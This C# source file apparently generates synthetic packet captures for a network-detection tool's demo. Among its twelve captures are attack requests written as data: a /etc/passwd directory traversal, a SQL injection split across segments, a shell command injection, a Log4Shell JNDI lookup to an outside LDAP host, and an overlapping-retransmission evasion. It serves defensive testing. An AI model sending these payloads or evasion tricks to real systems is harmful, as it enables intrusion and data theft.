using System.Text;

namespace Testing.Demo;

/// <summary>Writes the captures of the built-in demo: made from nothing, equal bytes each time.</summary>
/// <remarks>The demo port plays them in the order of their names, at real speed, in about half a
/// minute.</remarks>
public static class DemoCaptures
{
    private const long StartNs = 1_763_000_000_000_000_000;
    private const string WebServer = "192.0.2.80";
    private const string Host = "shop.example";
    private const int ScannedPorts = 60;
    private const int BalancedConnections = 200;
    private const int LongFlowSegments = 400;

    public static IReadOnlyList<DemoCapture> All() =>
    [
        new("01-web-browsing.pcap", WebBrowsing()),
        new("02-directory-traversal.pcap", DirectoryTraversal()),
        new("03-sql-injection.pcap", SqlInjection()),
        new("04-tls.pcap", Tls()),
        new("05-port-scan.pcap", PortScan()),
        new("06-long-flow.pcap", LongFlow()),
        new("07-ipv6.pcap", OverIpv6()),
        new("08-vlan.pcap", OnVlan()),
        new("09-overlapping-retransmission.pcap", OverlappingRetransmission()),
        new("10-reset-in-mid-stream.pcap", ResetInMidStream()),
        new("11-many-connections.pcap", ManyConnections()),
        new("12-ping-and-names.pcap", PingAndNames()),
    ];

    /// <summary>A name is looked up, a page and its style sheet are fetched; one segment is lost and sent
    /// again.</summary>
    private static IReadOnlyList<Frame> WebBrowsing()
    {
        Conversation names = new("10.10.0.21", "10.10.0.1");
        List<Frame> lookup = [.. names.AsksForName(StartNs, 0x1001, Host, WebServer)];

        TcpScript page = Script("10.10.0.21:49152", $"{WebServer}:80", StartNs + Ms(40)).Handshake()
            .ClientSends(HttpText.Get("/", Host)).Wait(TimeSpan.FromMilliseconds(60))
            .ServerSends(HttpText.Ok("text/html", HttpText.Page("Shop", 9_000)))
            .Wait(TimeSpan.FromMilliseconds(500))
            .ClientSends(HttpText.Get("/basket?item=12", Host))
            .ServerSends(HttpText.Ok("text/html", HttpText.Page("Basket", 2_000)))
            .ServerRetransmits().Wait(TimeSpan.FromMilliseconds(800)).Close();
        TcpScript style = Script("10.10.0.21:49153", $"{WebServer}:80", StartNs + Ms(150)).Handshake()
            .ClientSends(HttpText.Get("/shop.css", Host))
            .ServerSends(HttpText.Ok("text/css", new string(' ', 3_000)))
            .Wait(TimeSpan.FromMilliseconds(400)).Close();
        return Frame.Merge(lookup, page.Frames, style.Frames);
    }

    private static IReadOnlyList<Frame> DirectoryTraversal() =>
        Script("203.0.113.9:40100", $"{WebServer}:80", StartNs).Handshake()
            .ClientSends(HttpText.Get("/images/../../../../etc/passwd", Host))
            .Wait(TimeSpan.FromMilliseconds(50))
            .ServerSends(HttpText.Status("404 Not Found")).Wait(TimeSpan.FromMilliseconds(200)).Close()
            .Frames;

    /// <summary>The injection is cut inside its words, so no single packet shows it.</summary>
    private static IReadOnlyList<Frame> SqlInjection()
    {
        string request = HttpText.Get("/item?id=7%20UNION%20SELECT%20name,secret%20FROM%20users--", Host);
        int first = request.IndexOf("UNION", StringComparison.Ordinal) + 3;
        int second = request.IndexOf("SELECT", StringComparison.Ordinal) + 2;
        return Script("203.0.113.66:40200", $"{WebServer}:80", StartNs).Handshake()
            .ClientSends(HttpText.Get("/item?id=7", Host))
            .ServerSends(HttpText.Ok("text/html", HttpText.Page("Item 7", 800)))
            .Wait(TimeSpan.FromMilliseconds(300))
            .ClientSends(request[..first]).Wait(TimeSpan.FromMilliseconds(20))
            .ClientSends(request[first..second]).Wait(TimeSpan.FromMilliseconds(20))
            .ClientSends(request[second..]).Wait(TimeSpan.FromMilliseconds(60))
            .ServerSends(HttpText.Status("500 Internal Server Error"))
            .Wait(TimeSpan.FromMilliseconds(200)).Close().Frames;
    }

    /// <summary>Two TLS connections: one to an encyclopedia, one to a host that a rule names.</summary>
    private static IReadOnlyList<Frame> Tls() => Frame.Merge(
        TlsConnection("10.10.0.22:50100", "198.51.100.10:443", "www.wikipedia.org", StartNs),
        TlsConnection("10.10.0.23:50200", "198.51.100.66:443", "control.malware.example", StartNs + Ms(700)));

    private static IReadOnlyList<Frame> TlsConnection(string client, string server, string host,
        long startNs) =>
        Script(client, server, startNs).Handshake()
            .ClientSends(TlsRecords.ClientHello(host)).Wait(TimeSpan.FromMilliseconds(30))
            .ServerSends(TlsRecords.ServerFlight())
            .ClientSends(TlsRecords.ClientFinished())
            .ClientSends(TlsRecords.Application(220, seed: 20)).Wait(TimeSpan.FromMilliseconds(80))
            .ServerSends(TlsRecords.Application(5_000, seed: 21)).Wait(TimeSpan.FromMilliseconds(300))
            .Close().Frames;

    private static List<Frame> PortScan()
    {
        List<Frame> frames = [];
        for (int i = 0; i < ScannedPorts; i++)
        {
            frames.AddRange(Script("203.0.113.50:61000", $"192.0.2.17:{20 + i}", StartNs + Ms(20 * i))
                .Syn().ServerResets().Frames);
        }
        return frames;
    }

    /// <summary>A download in full-size packets: its mean packet length makes it a long flow.</summary>
    private static IReadOnlyList<Frame> LongFlow()
    {
        TcpScript script = Script("10.10.0.24:50300", "198.51.100.20:80", StartNs).Handshake()
            .ClientSends(HttpText.Get("/backup.tar", "files.example"))
            .ServerSends("HTTP/1.1 200 OK\r\nContent-Type: application/x-tar\r\n"
                + $"Content-Length: {LongFlowSegments * 1460}\r\n\r\n");
        for (int i = 0; i < LongFlowSegments; i += 4)
        {
            script.ServerSends(4 * 1460).Wait(TimeSpan.FromMilliseconds(45));
        }
        return script.Close().Frames;
    }

    private static IReadOnlyList<Frame> OverIpv6() =>
        Script("[2001:db8:66::9]:40300", "[2001:db8::80]:80", StartNs).Handshake()
            .ClientSends(HttpText.Get("/status?host=localhost%3B/bin/sh%20-c%20id", Host))
            .Wait(TimeSpan.FromMilliseconds(100))
            .ServerSends(HttpText.Status("403 Forbidden")).Wait(TimeSpan.FromMilliseconds(300)).Close()
            .Frames;

    /// <summary>The same address pair on two VLANs at once: two flows, one of them with an attack.</summary>
    private static IReadOnlyList<Frame> OnVlan() => Frame.Merge(
        Script("10.20.0.5:40400", "10.20.0.80:8080", StartNs).OnVlan(100).Handshake()
            .ClientSends(HttpText.Post("/login", "intern.example", "user=anna&password=secret"))
            .ServerSends(HttpText.Ok("text/html", HttpText.Page("Welcome", 1_200)))
            .Wait(TimeSpan.FromMilliseconds(400)).Close().Frames,
        Script("10.20.0.5:40400", "10.20.0.80:8080", StartNs + Ms(50)).OnVlan(200).Handshake()
            .ClientSends(HttpText.Get("/?q=${jndi:ldap://203.0.113.99/a}", "intern.example"))
            .ServerSends(HttpText.Status("400 Bad Request"))
            .Wait(TimeSpan.FromMilliseconds(400)).Close().Frames);

    /// <summary>An evasion: the attack's bytes arrive early and out of order; then the gap is closed by a
    /// segment
    /// that overlaps them with harmless ones. Whoever trusts the later bytes sees nothing.</summary>
    private static IReadOnlyList<Frame> OverlappingRetransmission()
    {
        const string head = "GET /scripts/", attack = "run?exec=calculator", harmless = "run?view=calculator";
        string tail = $" HTTP/1.1\r\nHost: {Host}\r\n\r\n";
        return Script("203.0.113.77:40500", $"{WebServer}:80", StartNs).Handshake()
            .ClientSegment(head.Length, attack).ServerAcks().Wait(TimeSpan.FromMilliseconds(30))
            .ClientSegment(0, head + harmless).ServerAcks().Wait(TimeSpan.FromMilliseconds(30))
            .ClientSends(tail).Wait(TimeSpan.FromMilliseconds(60))
            .ServerSends(HttpText.Ok("text/plain", "done\n"))
            .Wait(TimeSpan.FromMilliseconds(200)).Close().Frames;
    }

    private static IReadOnlyList<Frame> ResetInMidStream() =>
        Script("10.10.0.25:50400", $"{WebServer}:80", StartNs).Handshake()
            .ClientSends(HttpText.Get("/film.mp4", Host))
            .ServerSends("HTTP/1.1 200 OK\r\nContent-Type: video/mp4\r\nContent-Length: 900000\r\n\r\n")
            .ServerSends(5_840).Wait(TimeSpan.FromMilliseconds(400))
            .ServerSends(5_840).Wait(TimeSpan.FromMilliseconds(400))
            .ServerSends(2_920).ClientResets().Frames;

    /// <summary>Many clients, one short request each: what a load balancer spreads.</summary>
    private static IReadOnlyList<Frame> ManyConnections()
    {
        List<IEnumerable<Frame>> all = [];
        for (int i = 0; i < BalancedConnections; i++)
        {
            string client = $"10.30.{i / 250}.{1 + (i % 250)}:{51000 + i}";
            all.Add(Script(client, "192.0.2.100:80", StartNs + Ms(14 * i)).Handshake()
                .ClientSends($"GET /n/{i} HTTP/1.1\r\nHost: {Host}\r\n\r\n")
                .Wait(TimeSpan.FromMilliseconds(15))
                .ServerSends(HttpText.Ok("text/plain", "ok\n")).Close().Frames);
        }
        return Frame.Merge([.. all]);
    }

    /// <summary>A host is pinged once a second; names are asked for, one of which a rule names.</summary>
    private static IReadOnlyList<Frame> PingAndNames()
    {
        Conversation names = new("10.10.0.26", "10.10.0.1");
        List<Frame> frames = [.. names.Resolves(StartNs)];
        for (int i = 0; i < 3; i++)
        {
            frames.AddRange(names.Pings(StartNs + Ms(100 + (1_000 * i)), (uint)i + 1));
        }
        frames.AddRange(names.AsksForName(StartNs + Ms(400), 0x2001, "www.example", "198.51.100.30"));
        frames.AddRange(
            names.AsksForName(StartNs + Ms(900), 0x2002, "update.malware.example", "198.51.100.66"));
        return Frame.Merge(frames);
    }

    private static TcpScript Script(string client, string server, long startNs) =>
        TcpScript.Between(client, server).StartingAt(startNs).Every(TimeSpan.FromMilliseconds(1));

    private static long Ms(int milliseconds) => milliseconds * 1_000_000L;

    /// <summary>Two neighbours that speak ARP, ICMP and DNS with each other.</summary>
    private sealed class Conversation(string client, string server)
    {
        private const string ClientMac = "02:00:00:00:00:01", ServerMac = "02:00:00:00:00:02";

        public IEnumerable<Frame> Resolves(long atNs) =>
        [
            PacketBuilder.Ethernet(ClientMac, "ff:ff:ff:ff:ff:ff").Arp(1, client, server).At(atNs),
            PacketBuilder.Ethernet(ServerMac, ClientMac).Arp(2, server, client, ClientMac).At(atNs + Ms(1)),
        ];

        public IEnumerable<Frame> Pings(long atNs, uint number)
        {
            byte[] payload = Encoding.ASCII.GetBytes("abcdefghijklmnopqrstuvwabcdefghi");
            uint rest = (0x77u << 16) | number;
            return
            [
                Out().Icmp(8, 0, rest).Payload(payload).At(atNs),
                Back().Icmp(0, 0, rest).Payload(payload).At(atNs + Ms(2)),
            ];
        }

        public IEnumerable<Frame> AsksForName(long atNs, ushort id, string host, string address) =>
        [
            Out().Udp(40_000 + (id & 0xFFF), 53).Payload(DnsMessage.Query(id, host)).At(atNs),
            Back().Udp(53, 40_000 + (id & 0xFFF)).Payload(DnsMessage.Answer(id, host, address))
            .At(atNs + Ms(12)),
        ];

        private PacketBuilder Out() => PacketBuilder.Ethernet(ClientMac, ServerMac).Ipv4(client, server);

        private PacketBuilder Back() => PacketBuilder.Ethernet(ServerMac, ClientMac).Ipv4(server, client);
    }
}
